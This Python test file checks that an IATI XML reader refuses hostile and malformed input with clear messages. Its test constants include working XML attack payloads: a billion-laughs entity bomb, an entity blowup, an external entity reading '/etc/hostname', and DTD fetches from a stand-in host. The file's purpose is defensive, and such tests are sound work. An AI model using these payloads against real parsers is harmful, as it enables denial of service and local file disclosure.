"""Files that would fill the memory, read other files or cannot be read: refused in clear words."""

import io
from itertools import islice

import pytest

from concord.activities.iati import reading
from concord.activities.iati.prolog import UnreadableFile, looks_like_xml
from concord.activities.iati.reading import activities_of
from tests.activities.iati_files import activity, as_file

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'
BLOWUP = f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>'
FETCHES = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:/etc/hostname">]>'
OUTSIDE = '<!DOCTYPE x SYSTEM "http://198.51.100.1/x.dtd">'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://198.51.100.1/x.dtd"> %p;]>'


def read(content: bytes) -> int:
    return sum(1 for _ in activities_of(io.BytesIO(content)))


def refusal(content: bytes) -> str:
    with pytest.raises(UnreadableFile) as refused:
        read(content)
    return str(refused.value)


@pytest.mark.parametrize("prolog", [BOMB, BLOWUP, FETCHES, OUTSIDE, PARAMETER, "<!DOCTYPE x>"])
@pytest.mark.parametrize("before", ["", "<!-- <iati-activities> -->\n", "<?note?>  \n"])
def test_document_types_are_refused_whatever_they_hold(prolog: str, before: str) -> None:
    content = as_file(activity(0, title="&l9;&a;&f;"), prolog=before + prolog)

    said = refusal(content.replace(b"&amp;", b"&"))

    assert "document type" in said
    assert "Remove the declaration" in said


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_document_types_in_other_encodings_are_refused(encoding: str) -> None:
    text = as_file(activity(0), prolog=BOMB).decode().replace("UTF-8", "UTF-16")

    assert "document type" in refusal(text.encode(encoding))


@pytest.mark.parametrize("name", ["UTF-7", "IBM037", "UTF-32", "x-user-defined"])
def test_encodings_that_hide_what_they_say_are_refused(name: str) -> None:
    said = refusal(as_file(activity(0)).replace(b"UTF-8", name.encode()))

    assert f"{name} is not read" in said
    assert "Save the file as UTF-8" in said


def test_an_entity_without_its_document_type_is_refused() -> None:
    said = refusal(as_file(activity(0)).replace(b"Officers", b"&secret;"))

    assert "cannot be read from line" in said


@pytest.mark.parametrize(
    ("encoding", "declared"),
    [("utf-16", "UTF-16"), ("iso-8859-1", "ISO-8859-1"), ("windows-1252", "windows-1252")],
)
def test_usual_encodings_are_read(encoding: str, declared: str) -> None:
    text = as_file(activity(0)).decode().replace("UTF-8", declared).replace("’", "e")

    assert read(text.encode(encoding)) == 1


def test_bytes_that_are_not_the_encoding_are_named_by_line() -> None:
    said = refusal(as_file(activity(0)).replace("’".encode(), b"\xff\xfe"))

    assert said.startswith("Line 8 is not text in the encoding")
    assert "Save the file as UTF-8" in said


def test_files_that_break_off_are_named_by_line() -> None:
    said = refusal(as_file(*(activity(n) for n in range(3)))[:-60])

    assert "cannot be read from line" in said
    assert "nothing was imported" in said


@pytest.mark.parametrize("depth", [40, 300, 5000])
def test_elements_that_lie_too_deep_are_refused(depth: int) -> None:
    deep = "<a>" * depth + "</a>" * depth

    said = refusal(as_file(f"<iati-activity>{deep}</iati-activity>"))

    assert "more than 32 deep" in said


def test_files_that_are_too_large_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "LARGEST", 2**20)

    assert "Split it" in refusal(as_file(activity(0)) + b" " * 2**20)


def test_texts_that_are_too_long_are_refused() -> None:
    assert "cannot be read" in refusal(as_file(activity(0, title="a" * 10_000_001)))


def test_an_activity_with_too_many_elements_is_passed_over() -> None:
    many = activity(0).replace("</iati-activity>", "<result/>" * 20_001 + "</iati-activity>")

    found = [each.too_large for each in activities_of(io.BytesIO(as_file(many, activity(1))))]

    assert found == [True, False]


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "not an XML file"),
        (b"identifier,state\n", "not an XML file"),
        (b"\x7fELF\0\0\0", "not an XML file"),
        (b"<html><p>", "begins with <html>"),
        (b"<iati-organisations version='2.03'/>", "begins with <iati-organisations>"),
        (b"<iati-activities version='3.01'/>", "version 3.01 is not read"),
        (b"<!--" + b"x" * 70_000, "No element begins"),
    ],
)
def test_other_files_are_refused(content: bytes, words: str) -> None:
    assert words in refusal(content)


def test_what_is_held_does_not_grow_with_the_file() -> None:
    found = activities_of(io.BytesIO(as_file(*(activity(n) for n in range(1000)))))
    for each in islice(found, 900):
        root = each.element.getparent()

    assert root is not None
    assert len(root) <= 30


def test_xml_is_told_from_other_files() -> None:
    assert looks_like_xml(as_file())
    assert looks_like_xml(as_file().decode().encode("utf-16"))
    assert not looks_like_xml(b"identifier,state,title\n")
